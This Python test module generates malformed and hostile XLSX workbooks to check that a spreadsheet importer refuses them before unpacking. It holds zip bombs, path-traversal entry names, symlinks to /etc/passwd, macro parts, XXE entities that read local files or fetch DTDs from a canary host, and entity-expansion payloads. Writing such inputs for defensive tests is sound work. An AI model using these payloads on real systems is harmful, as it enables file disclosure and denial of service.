"""Monthly forms as archives that should not be opened, or cannot: refused before unpacking."""

from __future__ import annotations

import random
import stat
import struct

from tests.inputs.cases import Made, Refused, recipe
from tests.inputs.written_form import ROWS, Form, form
from tests.inputs.written_xlsx import CONTENT_TYPES, WORKBOOK, entry, packed, packed_entries
from tests.inputs.xlsx_layout import refused

SHEET = "xl/worksheets/sheet1.xml"
ALL_ROWS = sum(ROWS.values())
DAMAGED = Refused(frozenset({"M-122", "M-123", "M-126", "M-127", "M-128", "M-129"}))


def _with(made: Form, rule: str, **parts: bytes) -> Made:
    return made.made(refused(rule), content=packed(made.book.parts() | parts))


@recipe("xlsx")
def zip_bomb(draw: random.Random) -> Made:
    """A part that unpacks to far more than it is."""
    made = form(draw)
    name = draw.choice(["xl/media/bilde.png", SHEET, "docProps/app.xml", "xl/theme/theme1.xml"])
    filler = draw.choice([b" ", b"\0", b"<a/>"])
    return _with(
        made, "M-126", **{name: filler * (draw.choice([4, 40]) * 1_000_000 // len(filler))}
    )


@recipe("xlsx")
def lying_size(draw: random.Random) -> Made:
    """The archive says that a part is small, and it is not; or the other way about."""
    made = form(draw)
    parts = made.book.parts() | {"xl/theme/x.bin": draw.randbytes(100) * 3000}
    content = bytearray(packed(parts))
    at = content.rfind(b"PK\x01\x02")
    struct.pack_into("<I", content, at + 24, draw.choice([1, 0, 4_000_000_000, 99]))
    return made.made(DAMAGED, content=bytes(content))


@recipe("xlsx")
def too_many_entries(draw: random.Random) -> Made:
    """More parts than any workbook has."""
    made = form(draw)
    more = {f"xl/media/{number}.png": b"" for number in range(draw.choice([600, 3000]))}
    return _with(made, "M-126", **more)


@recipe("xlsx")
def one_name_twice(draw: random.Random) -> Made:
    """Two parts of one name: which of them is read?"""
    made = form(draw)
    entries = [(entry(name), content) for name, content in made.book.parts().items()]
    entries.append((entry(draw.choice([SHEET, SHEET.upper(), WORKBOOK])), b"<x/>"))
    return made.made(refused("M-127"), content=packed_entries(entries))


@recipe("xlsx")
def name_that_points_out(draw: random.Random) -> Made:
    """Parts that would land outside if somebody unpacked them."""
    made = form(draw)
    name = draw.choice(
        ["../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:/x", "xl/../../x", "a:b"]
    )
    return _with(made, "M-127", **{name: b"x"})


@recipe("xlsx")
def link_in_the_archive(draw: random.Random) -> Made:
    """A part that is a symbolic link."""
    made = form(draw)
    link = entry("xl/lenke", external_attr=(stat.S_IFLNK | 0o777) << 16)
    entries = [(entry(name), content) for name, content in made.book.parts().items()]
    target = draw.choice([b"/etc/passwd", b"../..", b"sharedStrings.xml"])
    return made.made(refused("M-127"), content=packed_entries([*entries, (link, target)]))


@recipe("xlsx")
def encrypted(draw: random.Random) -> Made:
    """With a password, or saved in the format of before 2007."""
    made = form(draw)
    if draw.random() < 0.5:
        old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + draw.randbytes(draw.choice([0, 500, 5000]))
        return made.made(refused("M-123"), content=old)
    content = bytearray(made.book.bytes())
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    return made.made(refused("M-123"), content=bytes(content))


@recipe("xlsx")
def active_content(draw: random.Random) -> Made:
    """Macros, controls, embedded files, another archive inside."""
    made = form(draw)
    name = draw.choice(
        [
            "xl/vbaProject.bin",
            "xl/activeX/activeX1.xml",
            "xl/embeddings/a.zip",
            "xl/macrosheets/sheet1.xml",
            "xl/ctrlProps/x.xml",
            "XL/VBAPROJECT.BIN",
            "xl/dialogsheets/sheet1.xml",
        ]
    )
    return _with(
        made, "M-124", **{name: packed(made.book.parts()) if name.endswith("zip") else b"<x/>"}
    )


@recipe("xlsx")
def macro_type(draw: random.Random) -> Made:
    """The workbook itself says that it may hold macros."""
    made = form(draw)
    types = made.book.parts()[CONTENT_TYPES]
    other = draw.choice(
        [
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            b"application/vnd.ms-excel.sheet.MACROENABLED.main+xml",
        ]
    )
    main = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return _with(made, "M-124", **{CONTENT_TYPES: types.replace(main, other)})


@recipe("xlsx")
def content_from_elsewhere(draw: random.Random) -> Made:
    """Links that are fetched when the workbook is opened."""
    made = form(draw)
    if draw.random() < 0.5:
        name = draw.choice(
            [
                "xl/externalLinks/externalLink1.xml",
                "xl/connections.xml",
                "xl/queryTables/queryTable1.xml",
            ]
        )
        return _with(made, "M-125", **{name: b"<x/>"})
    rels = made.book.parts()["xl/_rels/workbook.xml.rels"]
    out = draw.choice([b"http://kanari.example/x", b"file:///etc/passwd", b"\\\\kanari\\x"])
    more = b'<Relationship Id="rIdX" Type="http://x/image" TargetMode="External" Target="%s"/>'
    changed = rels.replace(b"</Relationships>", more % out + b"</Relationships>")
    return _with(made, "M-125", **{"xl/_rels/workbook.xml.rels": changed})


@recipe("xlsx")
def link_in_a_cell(draw: random.Random) -> Made:
    """A link to a page is only a link: nothing is fetched."""
    made = form(draw)
    word = made.town.secret()
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{relation}/hyperlink" Target="http://{word}.example/" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    made.sheet.more = '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'
    parts = made.book.parts() | {"xl/worksheets/_rels/sheet1.xml.rels": rels}
    return made.made(content=packed(parts))


@recipe("xlsx")
def entities_in_xml(draw: random.Random) -> Made:
    """Definitions: entities that grow, and ones that read files."""
    made = form(draw)
    name = draw.choice([SHEET, WORKBOOK, "xl/sharedStrings.xml", "xl/styles.xml", CONTENT_TYPES])
    dtd = draw.choice(
        [
            b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
            b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
            b'<!DOCTYPE x SYSTEM "http://kanari.example/x.dtd">',
            b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://kanari.example/x"> %p;]>',
            b"<!DOCTYPE x>",
        ]
    )
    old = made.book.parts()[name]
    at = old.index(b"?>") + 2
    return _with(made, "M-128", **{name: old[:at] + dtd + old[at:]})


@recipe("xlsx")
def deep_or_wide_xml(draw: random.Random) -> Made:
    """XML that would take a reader's stack or memory."""
    made = form(draw)
    deep = b"<a>" * 5000 + b"</a>" * 5000
    wide = b"<a>" + b"<b/>" * 260_000 + b"</a>"
    noise = draw.randbytes(80_000).hex().encode()
    # Noise beside it keeps the part from being a bomb by its ratio alone.
    content = draw.choice([deep, wide]).replace(b"</a>", b"<!--" + noise + b"--></a>", 1)
    return _with(made, "M-126", **{"xl/theme/theme1.xml": content})


@recipe("xlsx")
def formulas_that_multiply(draw: random.Random) -> Made:
    """One long formula that thousands of cells share."""
    made = form(draw)
    long = "+".join(f"A{n}" for n in range(400))
    first = f'<c r="T30"><f t="shared" ref="T30:T9999" si="0">{long}</f><v>0</v></c>'
    cells = "".join(
        f'<row r="{n}"><c r="T{n}"><f t="shared" si="0"/></c></row>' for n in range(31, 4000)
    )
    parts = made.book.parts()
    sheet = parts[SHEET].replace(
        b"</sheetData>", f'<row r="30">{first}</row>{cells}</sheetData>'.encode()
    )
    return _with(made, "M-126", **{SHEET: sheet})
